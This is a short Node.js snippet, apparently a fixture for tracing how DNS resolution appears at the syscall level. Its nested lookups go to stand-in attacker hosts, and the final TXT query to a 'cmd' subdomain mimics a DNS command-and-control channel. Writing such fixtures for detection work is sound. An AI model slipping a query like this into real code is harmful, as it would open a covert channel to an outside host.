// Node DNS shapes: dns.lookup (getaddrinfo on a libuv threadpool thread) and
// dns.resolve* (c-ares: connect + sendto(NULL) on a UDP socket).
const dns = require('dns');
dns.lookup('threadpool.attacker.example', () => {
  dns.resolve4('cares.attacker.example', () => {
    dns.resolveTxt('cmd.x7f3a9.attacker.example', () => {});
  });
});
